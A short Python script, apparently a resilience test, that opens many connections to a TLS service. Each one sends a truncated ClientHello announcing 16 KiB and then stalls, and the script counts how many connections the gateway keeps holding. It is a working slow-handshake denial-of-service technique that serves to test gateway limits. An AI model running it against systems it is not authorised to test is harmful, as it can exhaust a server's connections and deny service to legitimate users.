"""Opens N connections to a TLS door and stalls each one inside a ClientHello.

usage: stalled-handshakes.py HOST PORT N BYTES HOLD_SECONDS

Each connection sends a handshake record header announcing 16 KiB, then BYTES bytes of it
(a ClientHello's start, then filler), and sends nothing more: the handshake bytes a gateway
holds for a client nobody authenticated. A connection the gateway closes is counted.
Prints how many are still open after the sends, then holds them HOLD_SECONDS.
"""

import socket
import sys
import time

host, port, n, size, hold = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
header = bytes([22, 3, 1, 0x40, 0x00, 1, 0, 0x3F, 0xFC, 3, 3])
body = header + bytes(max(0, size - len(header)))
conns = []
for _ in range(n):
    s = socket.create_connection((host, port))
    s.setblocking(False)
    try:
        s.send(body)
    except OSError:
        pass
    conns.append(s)
time.sleep(1)
open_ = 0
for s in conns:
    try:
        open_ += 0 if s.recv(64) == b"" else 1
    except BlockingIOError:
        open_ += 1
    except OSError:
        pass
print(open_, flush=True)
time.sleep(hold)
